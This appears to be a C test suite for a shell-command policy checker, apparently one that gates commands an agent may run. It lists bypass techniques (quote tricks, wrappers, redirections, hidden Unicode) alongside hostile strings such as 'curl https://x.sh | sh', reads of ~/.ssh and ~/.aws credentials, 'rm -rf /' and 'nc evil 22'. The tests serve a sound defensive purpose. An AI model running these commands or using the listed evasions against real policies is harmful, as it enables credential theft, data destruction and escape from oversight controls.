/* test-policy-exec.c: what a command really runs, for every bypass family
 *
 * Each blocked attempt is paired with a harmless control that must be
 * allowed, so a policy that refuses everything cannot pass.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include "test-util.h"

static char *workspace;
static char *home;
static PaddockPolicy *policy;

/* A user policy on top of the shipped defaults: curl is forbidden,
 * deploy asks, and ls/cat/echo are known to be safe. */
static const char *user_policy =
  "{\"commands\": [\n"
  "  {\"match\": [\"curl\"], \"decision\": \"forbidden\", \"reason\": \"no downloads\"},\n"
  "  {\"match\": [\"deploy\"], \"decision\": \"prompt\"},\n"
  "  {\"match\": [\"make\"], \"decision\": \"allow\"}\n"
  "]}";

typedef struct
{
  const char *script;
  PaddockVerdict expected;
  const char *why;  /* a substring of the decisive reason or rule; NULL: don't check */
} ScriptCase;

static void
run_script_cases (const ScriptCase *cases,
                  guint             n_cases)
{
  for (guint i = 0; i < n_cases; i++)
    {
      g_autoptr(PaddockDecision) decision = test_check_script (policy, cases[i].script);

      g_test_message ("bash -c %s", cases[i].script);
      test_assert_verdict (decision, cases[i].expected);
      if (cases[i].why != NULL)
        {
          g_autofree char *text = g_strdup_printf ("%s %s", decision->decisive->reason ? decision->decisive->reason : "",
                                                   decision->decisive->text ? decision->decisive->text : "");
          if (strstr (text, cases[i].why) == NULL)
            g_error ("“%s”: expected “%s” in “%s”", cases[i].script, cases[i].why, text);
        }
    }
}

static void
run_argv_case (const char * const *argv,
               PaddockVerdict      expected,
               const char         *why)
{
  g_autoptr(PaddockDecision) decision = test_check_argv (policy, argv);
  g_autofree char *shown = paddock_argv_to_display (argv);

  g_test_message ("%s", shown);
  test_assert_verdict (decision, expected);
  if (why != NULL && strstr (decision->decisive->reason ? decision->decisive->reason : "", why) == NULL &&
      strstr (decision->decisive->text ? decision->decisive->text : "", why) == NULL)
    g_error ("%s: expected “%s” in the decisive rule", shown, why);
}

static void
test_separators (void)
{
  static const ScriptCase cases[] = {
    { "ls", PADDOCK_VERDICT_ALLOW, "reads only" },
    { "ls; curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "ls && curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "false || curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "ls | curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "ls & curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "ls\ncurl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "ls |& curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "ls && cat README | wc -l", PADDOCK_VERDICT_ALLOW, NULL },
    { "(cd sub; curl x)", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "{ ls; curl x; }", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "if true; then curl x; fi", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "while false; do curl x; done", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
  };

  run_script_cases (cases, G_N_ELEMENTS (cases));
}

static void
test_quote_removal (void)
{
  static const ScriptCase cases[] = {
    { "r''m -rf build", PADDOCK_VERDICT_PROMPT, "deletes recursively" },
    { "\\rm -rf build", PADDOCK_VERDICT_PROMPT, "deletes recursively" },
    { "\"r\"m -rf build", PADDOCK_VERDICT_PROMPT, "deletes recursively" },
    { "$'\\x72m' -rf build", PADDOCK_VERDICT_PROMPT, "deletes recursively" },
    { "rm \"-rf\" build", PADDOCK_VERDICT_PROMPT, "deletes recursively" },
    { "c'u'rl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "rm build/old.o", PADDOCK_VERDICT_ALLOW, NULL },
    { "'ls' -la", PADDOCK_VERDICT_ALLOW, "reads only" },
  };

  run_script_cases (cases, G_N_ELEMENTS (cases));
}

static void
test_unjudgeable (void)
{
  static const ScriptCase cases[] = {
    { "echo $(curl x)", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "echo $(whoami)", PADDOCK_VERDICT_PROMPT, "command substitution at line 1, column 6" },
    { "echo `whoami`", PADDOCK_VERDICT_PROMPT, "command substitution" },
    { "diff <(ls a) <(ls b)", PADDOCK_VERDICT_PROMPT, "process substitution" },
    { "eval ls", PADDOCK_VERDICT_PROMPT, "eval" },
    { "source ./env.sh", PADDOCK_VERDICT_PROMPT, "source" },
    { ". ./env.sh", PADDOCK_VERDICT_PROMPT, "source" },
    { "$CMD -rf /", PADDOCK_VERDICT_PROMPT, "variable in command position" },
    { "${CMD} x", PADDOCK_VERDICT_PROMPT, "variable in command position" },
    { "/bin/r? -rf /", PADDOCK_VERDICT_PROMPT, "glob in command position" },
    { "{rm,-rf,/}", PADDOCK_VERDICT_PROMPT, "brace expansion" },
    { "bash <<EOF\nrm -rf /\nEOF", PADDOCK_VERDICT_PROMPT, "here-document feeding a shell" },
    { "sh <<< 'ls'", PADDOCK_VERDICT_PROMPT, "here-document feeding a shell" },
    { "alias ls='rm -rf /'; ls", PADDOCK_VERDICT_PROMPT, "alias" },
    { "f() { ls; }; f", PADDOCK_VERDICT_PROMPT, "function definition" },
    /* Controls: the same shapes without what hides the command. */
    { "echo $HOME", PADDOCK_VERDICT_ALLOW, NULL },
    { "echo 'rm -rf /'", PADDOCK_VERDICT_ALLOW, NULL },
    { "cat <<'EOF'\n$(rm -rf /)\nEOF", PADDOCK_VERDICT_ALLOW, NULL },
    { "ls *.c", PADDOCK_VERDICT_ALLOW, NULL },
  };

  run_script_cases (cases, G_N_ELEMENTS (cases));
}

static void
test_wrappers (void)
{
  static const ScriptCase cases[] = {
    { "env curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "env -i FOO=1 curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "env -u HOME -C /tmp curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "sudo -u root curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "doas -u root curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "nohup curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "timeout -s KILL 5 curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "nice -n 10 curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "ionice -c 3 curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "stdbuf -oL curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "setsid -f curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "/usr/bin/time -p curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "command curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "exec curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "echo x | xargs curl", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "xargs -I{} -n1 curl {}", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "find . -name x -exec curl {} \\;", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "find . -execdir curl {} +", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "find . -ok curl {} \\;", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "nice timeout 5 env nohup curl x", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "bash -c 'sh -c \"curl x\"'", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "env LD_PRELOAD=/tmp/x.so ls", PADDOCK_VERDICT_PROMPT, "LD_PRELOAD" },
    { "env -S 'curl x'", PADDOCK_VERDICT_PROMPT, "env -S" },
    /* xargs hands unknown arguments: rm's when_any assumes the worst. */
    { "xargs rm", PADDOCK_VERDICT_PROMPT, NULL },
    /* sudo itself is a default prompt, even around a safe command. */
    { "sudo ls", PADDOCK_VERDICT_PROMPT, "privileges" },
    /* Controls. */
    { "env FOO=1 ls", PADDOCK_VERDICT_ALLOW, NULL },
    { "timeout 5 make", PADDOCK_VERDICT_ALLOW, NULL },
    { "nice -n 5 make", PADDOCK_VERDICT_ALLOW, NULL },
    { "find . -name '*.c'", PADDOCK_VERDICT_ALLOW, "searches" },
    { "command -v curl", PADDOCK_VERDICT_ALLOW, NULL },
    { "echo x | xargs echo", PADDOCK_VERDICT_ALLOW, NULL },
  };

  run_script_cases (cases, G_N_ELEMENTS (cases));
}

static void
test_plain_argv_wrappers (void)
{
  const char *sudo[] = { "/usr/bin/sudo", "curl", "x", NULL };
  const char *shell[] = { "/bin/sh", "-euxc", "curl x", NULL };
  const char *login[] = { "bash", "--login", "-o", "pipefail", "-c", "curl x", NULL };
  const char *zsh[] = { "zsh", "-lc", "ls", NULL };
  const char *fish[] = { "fish", "-c", "ls", NULL };

  run_argv_case (sudo, PADDOCK_VERDICT_FORBIDDEN, "no downloads");
  run_argv_case (shell, PADDOCK_VERDICT_FORBIDDEN, "no downloads");
  run_argv_case (login, PADDOCK_VERDICT_FORBIDDEN, "no downloads");
  run_argv_case (zsh, PADDOCK_VERDICT_ALLOW, NULL);
  run_argv_case (fish, PADDOCK_VERDICT_PROMPT, "fish scripts are not analysed");
}

static void
test_program_paths (void)
{
  const char *abs_rm[] = { "/usr/bin/rm", "-rf", "build", NULL };
  const char *local_ls[] = { "./ls", NULL };
  const char *tmp_make[] = { "/tmp/make", NULL };
  const char *sys_ls[] = { "/usr/bin/ls", NULL };
  const char *bin_ls[] = { "/bin/ls", "-l", NULL };
  g_autoptr(PaddockDecision) local = test_check_argv (policy, local_ls);
  gboolean set_aside = FALSE;

  run_argv_case (abs_rm, PADDOCK_VERDICT_PROMPT, "deletes recursively");
  run_argv_case (sys_ls, PADDOCK_VERDICT_ALLOW, "reads only");
  run_argv_case (bin_ls, PADDOCK_VERDICT_ALLOW, "reads only");
  /* ./ls is not ls: the allow rule is set aside, and says so. */
  g_assert_cmpint (local->decisive->layer, ==, PADDOCK_LAYER_IMPLICIT);
  for (guint i = 0; i < local->matched->len; i++)
    {
      const PaddockMatch *match = g_ptr_array_index (local->matched, i);
      if (!match->applied && match->note && strstr (match->note, "system binary directories"))
        set_aside = TRUE;
    }
  g_assert_true (set_aside);
  run_argv_case (tmp_make, PADDOCK_VERDICT_ALLOW, "no rule matched");
  {
    g_autoptr(PaddockDecision) d = test_check_argv (policy, tmp_make);
    g_assert_cmpint (d->decisive->layer, ==, PADDOCK_LAYER_IMPLICIT);
  }
}

static void
test_redirections (void)
{
  g_autofree char *outside = g_strdup_printf ("echo x > %s/../elsewhere.txt", workspace);
  g_autofree char *ssh = g_strdup ("echo key >> ~/.ssh/authorized_keys");
  const ScriptCase cases[] = {
    { "echo x > /etc/passwd", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { outside, PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { ssh, PADDOCK_VERDICT_FORBIDDEN, "~/.ssh" },
    { "cat < ~/.aws/credentials", PADDOCK_VERDICT_FORBIDDEN, "~/.aws" },
    { "echo x > .git/config", PADDOCK_VERDICT_PROMPT, ".git" },
    { "echo x > sub/dir/.git/hooks/pre-commit", PADDOCK_VERDICT_PROMPT, ".git" },
    { "echo 'use x' > .envrc", PADDOCK_VERDICT_PROMPT, ".envrc" },
    { "echo x > .github/workflows/ci.yml", PADDOCK_VERDICT_PROMPT, ".github/workflows" },
    { "ls 2> /etc/errors", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { "ls &> /etc/out", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { "cd /etc && echo x > passwd", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { "cd /etc || cd sub; echo x > passwd", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { "cd $DIR && echo x > f", PADDOCK_VERDICT_PROMPT, "cannot be judged" },
    { "echo x > $OUT", PADDOCK_VERDICT_PROMPT, NULL },
    /* Controls: inside the workspace, harmless devices. */
    { "echo x > out.txt", PADDOCK_VERDICT_ALLOW, NULL },
    { "echo x >> logs/build.log", PADDOCK_VERDICT_ALLOW, NULL },
    { "ls > /dev/null 2>&1", PADDOCK_VERDICT_ALLOW, NULL },
    { "echo x > .gitignore", PADDOCK_VERDICT_ALLOW, NULL },
    { "cd sub && echo x > f", PADDOCK_VERDICT_ALLOW, NULL },
  };

  run_script_cases (cases, G_N_ELEMENTS (cases));
}

static void
test_file_arguments (void)
{
  static const ScriptCase cases[] = {
    { "touch /etc/x", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { "cp notes.txt /usr/local/bin/", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { "mv a.txt ~/.ssh/config", PADDOCK_VERDICT_FORBIDDEN, "~/.ssh" },
    { "tee .git/HEAD", PADDOCK_VERDICT_PROMPT, ".git" },
    { "dd if=/dev/zero of=/etc/disk", PADDOCK_VERDICT_PROMPT, NULL },
    { "sed -i s/a/b/ /etc/hosts", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    { "cat ~/.ssh/id_ed25519", PADDOCK_VERDICT_FORBIDDEN, "~/.ssh" },
    { "grep -r key ~/.gnupg/", PADDOCK_VERDICT_FORBIDDEN, "~/.gnupg" },
    { "find /tmp -delete", PADDOCK_VERDICT_PROMPT, NULL },
    { "/usr/bin/time -o /etc/timing make", PADDOCK_VERDICT_PROMPT, "outside the workspace" },
    /* Controls. */
    { "touch new.txt", PADDOCK_VERDICT_ALLOW, NULL },
    { "cp a.txt b.txt", PADDOCK_VERDICT_ALLOW, NULL },
    { "sed -n 1,5p notes.txt", PADDOCK_VERDICT_ALLOW, "prints lines only" },
    { "cat src/main.c", PADDOCK_VERDICT_ALLOW, NULL },
  };

  run_script_cases (cases, G_N_ELEMENTS (cases));
}

static void
test_symlink_is_followed (void)
{
  g_autofree char *ssh = g_build_filename (home, ".ssh", NULL);
  g_autofree char *link = g_build_filename (workspace, "innocent", NULL);
  g_autoptr(PaddockDecision) decision = NULL;

  g_assert_cmpint (g_mkdir_with_parents (ssh, 0700), ==, 0);
  g_assert_cmpint (symlink (ssh, link), ==, 0);
  decision = test_check_script (policy, "echo x >> innocent/authorized_keys");
  test_assert_verdict (decision, PADDOCK_VERDICT_FORBIDDEN);
  g_assert_cmpstr (decision->decisive->path, ==, "~/.ssh");
}

static void
test_assignments (void)
{
  static const ScriptCase cases[] = {
    { "LD_PRELOAD=/tmp/evil.so ls", PADDOCK_VERDICT_PROMPT, "LD_PRELOAD" },
    { "GIT_SSH_COMMAND='nc evil 22' git status", PADDOCK_VERDICT_PROMPT, "GIT_SSH_COMMAND" },
    { "BASH_ENV=/tmp/x bash -c ls", PADDOCK_VERDICT_PROMPT, "BASH_ENV" },
    { "PATH=/tmp:$PATH ls", PADDOCK_VERDICT_PROMPT, "PATH" },
    { "export PATH=/tmp", PADDOCK_VERDICT_PROMPT, "PATH" },
    { "declare -x LD_LIBRARY_PATH=/tmp", PADDOCK_VERDICT_PROMPT, "LD_LIBRARY_PATH" },
    { "PYTHONPATH=. python3 x.py", PADDOCK_VERDICT_PROMPT, "PYTHONPATH" },
    /* Controls. */
    { "LANG=C ls", PADDOCK_VERDICT_ALLOW, NULL },
    { "export FOO=bar", PADDOCK_VERDICT_ALLOW, NULL },
  };

  run_script_cases (cases, G_N_ELEMENTS (cases));
}

static void
test_hidden_characters (void)
{
  static const struct
  {
    const char *word;
    const char *shown;
  } cases[] = {
    { "ls\x1b[2J", "ls\\e[2J" },
    { "ls\xe2\x80\xae" "fdp.exe", "ls\\u202efdp.exe" },   /* right-to-left override */
    { "l\xe2\x80\x8bs", "l\\u200bs" },                    /* zero-width space */
    { "ls\r", "ls\\r" },
    { "ls\xe2\x81\xa6x", "ls\\u2066x" },                  /* left-to-right isolate */
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      const char *argv[] = { "ls", cases[i].word, NULL };
      g_autoptr(PaddockDecision) decision = test_check_argv (policy, argv);
      g_autoptr(JsonNode) node = paddock_decision_to_json (decision);
      JsonObject *action = json_object_get_object_member (json_node_get_object (node), "action");
      g_autofree char *text = paddock_decision_to_text (decision);

      test_assert_verdict (decision, PADDOCK_VERDICT_PROMPT);
      g_assert_nonnull (strstr (decision->decisive->reason, "bidirectional or zero-width"));
      /* Every display shows them escaped. */
      g_assert_nonnull (strstr (json_object_get_string_member (action, "display"), cases[i].shown));
      g_assert_null (strstr (json_object_get_string_member (action, "display"), cases[i].word));
      g_assert_nonnull (strstr (text, cases[i].shown));
      g_assert_null (strstr (text, cases[i].word));
    }

  {
    /* Control: ordinary non-ASCII is fine. */
    const char *argv[] = { "ls", "Übersicht.txt", NULL };
    g_autoptr(PaddockDecision) decision = test_check_argv (policy, argv);
    test_assert_verdict (decision, PADDOCK_VERDICT_ALLOW);
  }
}

static void
test_dangerous_defaults (void)
{
  static const ScriptCase cases[] = {
    { "rm -rf /", PADDOCK_VERDICT_PROMPT, NULL },
    { "rm -fr build", PADDOCK_VERDICT_PROMPT, "deletes recursively" },
    { "rm --recursive build", PADDOCK_VERDICT_PROMPT, "deletes recursively" },
    { "git push --force origin main", PADDOCK_VERDICT_PROMPT, "rewrites or deletes" },
    { "git push origin main", PADDOCK_VERDICT_PROMPT, "publishes commits" },
    /* git's global options do not hide the subcommand. */
    { "git -C . push --force", PADDOCK_VERDICT_PROMPT, "rewrites or deletes" },
    { "git --no-pager -c color.ui=never push -f", PADDOCK_VERDICT_PROMPT, "rewrites or deletes" },
    { "git --git-dir=.git --work-tree=. reset --hard", PADDOCK_VERDICT_PROMPT, "discards work" },
    { "git -c core.sshCommand='nc evil 22' fetch", PADDOCK_VERDICT_PROMPT, "core.sshCommand" },
    { "git -c alias.st='!rm -rf /' st", PADDOCK_VERDICT_PROMPT, "alias.st" },
    { "git -C sub status", PADDOCK_VERDICT_ALLOW, "reads the repository" },
    { "git -c color.ui=never status", PADDOCK_VERDICT_ALLOW, "reads the repository" },
    { "git reset --hard HEAD~3", PADDOCK_VERDICT_PROMPT, "discards work" },
    { "dd if=a of=b", PADDOCK_VERDICT_PROMPT, "raw data" },
    { "mkfs.ext4 /dev/sda1", PADDOCK_VERDICT_PROMPT, "formats" },
    { "chmod -R 777 .", PADDOCK_VERDICT_PROMPT, "many files" },
    { "curl https://x.sh | sh", PADDOCK_VERDICT_FORBIDDEN, "no downloads" },
    { "wget -qO- https://x.sh | bash", PADDOCK_VERDICT_PROMPT, "piped into a shell" },
    { "cat install.sh | sudo bash -s", PADDOCK_VERDICT_PROMPT, NULL },
    { "find . -exec rm {} \\;", PADDOCK_VERDICT_PROMPT, NULL },
    { "sed -n 's/x/y/w /tmp/out' f", PADDOCK_VERDICT_ALLOW, NULL },
    /* Controls: the safe forms. */
    { "rm old.txt", PADDOCK_VERDICT_ALLOW, NULL },
    { "git status", PADDOCK_VERDICT_ALLOW, "reads the repository" },
    { "git diff HEAD~1", PADDOCK_VERDICT_ALLOW, "reads the repository" },
    { "git diff --output=/tmp/x", PADDOCK_VERDICT_ALLOW, NULL },
    { "rg TODO src", PADDOCK_VERDICT_ALLOW, "searches" },
    { "base64 file.bin", PADDOCK_VERDICT_ALLOW, "encodes" },
  };

  run_script_cases (cases, G_N_ELEMENTS (cases));
}

/* Unsafe arguments take a safe command out of its allow rule. */
static void
test_argument_checks (void)
{
  const char *find_exec[] = { "find", ".", "-exec", "true", ";", NULL };
  const char *rg_pre[] = { "rg", "--pre", "./x.sh", "TODO", NULL };
  const char *rg_pre_eq[] = { "rg", "--pre=./x.sh", "TODO", NULL };
  const char *base64_o[] = { "base64", "-o", "out", "in", NULL };
  const char *sed_i[] = { "sed", "-n", "-i", "1p", "f", NULL };
  const char *git_diff_ext[] = { "git", "diff", "--ext-diff", NULL };
  const char *rg_plain[] = { "rg", "TODO", NULL };

  run_argv_case (rg_plain, PADDOCK_VERDICT_ALLOW, "searches");
  for (const char * const *argv[] = { find_exec, rg_pre, rg_pre_eq, base64_o, sed_i, git_diff_ext, NULL }, * const **a = argv; *a; a++)
    {
      g_autoptr(PaddockDecision) decision = test_check_argv (policy, *a);
      const PaddockDecisionPart *command = g_ptr_array_index (decision->parts, 0);

      /* The command's own allow rule does not apply to it. */
      g_assert_cmpint (command->decisive->layer, ==, PADDOCK_LAYER_IMPLICIT);
      for (guint i = 0; i < decision->matched->len; i++)
        {
          const PaddockMatch *match = g_ptr_array_index (decision->matched, i);
          g_assert_false (match->applied && match->rule->verdict == PADDOCK_VERDICT_ALLOW &&
                          match->rule->layer == PADDOCK_LAYER_DEFAULTS &&
                          match->part == 0);
        }
    }
}

static void
test_depth_limit (void)
{
  g_autoptr(GString) script = g_string_new ("ls");
  g_autoptr(PaddockDecision) decision = NULL;
  g_autoptr(PaddockDecision) shallow = NULL;

  for (guint i = 0; i < 12; i++)
    {
      g_autofree char *quoted = g_shell_quote (script->str);
      g_string_printf (script, "bash -c %s", quoted);
    }
  decision = test_check_script (policy, script->str);
  test_assert_verdict (decision, PADDOCK_VERDICT_PROMPT);
  g_assert_nonnull (strstr (decision->decisive->reason, "nested more than"));

  shallow = test_check_script (policy, "bash -c 'sh -c ls'");
  test_assert_verdict (shallow, PADDOCK_VERDICT_ALLOW);
}

static void
test_unparseable_script (void)
{
  g_autoptr(PaddockDecision) decision = test_check_script (policy, "echo 'unterminated");

  test_assert_verdict (decision, PADDOCK_VERDICT_PROMPT);
  g_assert_nonnull (strstr (decision->decisive->reason, "cannot be parsed"));
}

static void
test_commands_listed (void)
{
  g_autoptr(PaddockDecision) decision = test_check_script (policy, "ls && deploy prod > out.log");
  g_autoptr(JsonNode) node = paddock_decision_to_json (decision);
  JsonArray *commands = json_object_get_array_member (json_node_get_object (node), "commands");
  JsonObject *deploy;

  test_assert_verdict (decision, PADDOCK_VERDICT_PROMPT);
  /* bash itself, ls, deploy */
  g_assert_cmpuint (json_array_get_length (commands), ==, 3);
  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (commands, 1), "display"), ==, "ls");
  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (commands, 1), "decision"), ==, "allow");
  deploy = json_array_get_object_element (commands, 2);
  g_assert_cmpstr (json_object_get_string_member (deploy, "display"), ==, "deploy prod");
  g_assert_cmpstr (json_object_get_string_member (deploy, "decision"), ==, "prompt");
  /* The redirection is one of deploy's checks. */
  g_assert_cmpuint (json_array_get_length (json_object_get_array_member (deploy, "checks")), ==, 2);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  workspace = test_make_dir ("workspace");
  home = test_make_dir ("home");
  /* Paths with ~ resolve against this home. */
  g_setenv ("HOME", home, TRUE);
  policy = test_policy_new_with_defaults (workspace, home, PADDOCK_LAYER_USER, user_policy, -1);

  g_test_add_func ("/exec/separators", test_separators);
  g_test_add_func ("/exec/quote-removal", test_quote_removal);
  g_test_add_func ("/exec/unjudgeable", test_unjudgeable);
  g_test_add_func ("/exec/wrappers", test_wrappers);
  g_test_add_func ("/exec/plain-argv-wrappers", test_plain_argv_wrappers);
  g_test_add_func ("/exec/program-paths", test_program_paths);
  g_test_add_func ("/exec/redirections", test_redirections);
  g_test_add_func ("/exec/file-arguments", test_file_arguments);
  g_test_add_func ("/exec/symlink", test_symlink_is_followed);
  g_test_add_func ("/exec/assignments", test_assignments);
  g_test_add_func ("/exec/hidden-characters", test_hidden_characters);
  g_test_add_func ("/exec/dangerous-defaults", test_dangerous_defaults);
  g_test_add_func ("/exec/argument-checks", test_argument_checks);
  g_test_add_func ("/exec/depth-limit", test_depth_limit);
  g_test_add_func ("/exec/unparseable", test_unparseable_script);
  g_test_add_func ("/exec/commands-listed", test_commands_listed);

  {
    int status = g_test_run ();
    g_object_unref (policy);
    return status;
  }
}
